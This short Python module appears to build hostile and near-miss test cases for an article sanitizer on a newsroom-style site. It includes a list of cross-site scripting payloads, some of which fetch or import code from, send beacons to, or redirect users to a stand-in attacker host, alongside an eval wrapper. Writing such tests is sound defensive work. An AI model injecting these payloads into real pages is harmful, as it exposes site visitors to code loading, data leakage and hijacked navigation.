"""A hostile case, or a near miss that must pass: what it is made of and what has to become of it."""

from collections.abc import Callable, Mapping
from random import Random
from typing import Literal, NamedTuple

from newsroom_of import article

EVIL = "evil.example"
FRAMES = "video.example"  # the host from which the site of some cases lets texts show frames
Outcome = Literal["refused", "harmless", "clean"]
Content = str | bytes


class Case(NamedTuple):
    """One case: its family, what it is made of, the file that it stands in, other files, what has to become of it."""

    family: str
    label: str
    path: str
    text: Content
    outcome: Outcome
    files: Mapping[str, Content] = {}


Make = Callable[[Random, int], Case]

SCRIPTS = (
    f"fetch('//{EVIL}/f')", "alert(1)", "document.title='HIT'", f"top.location='//{EVIL}/'", f"import('//{EVIL}/m.js')",
    f"new Image().src='//{EVIL}/i'", "confirm`1`", "print()", "(0,eval)('document.title=`HIT`')",
)  # fmt: skip


def made_article(family: str, number: int, label: str, outcome: Outcome, body: str, /, **fields: str) -> Case:
    made = article(body, **{"id": f"h-{number}", "title": f"Tin {number}", **fields})
    return Case(family, label, f"articles/h-{number}.md", made.encode("utf-8", "surrogatepass"), outcome)
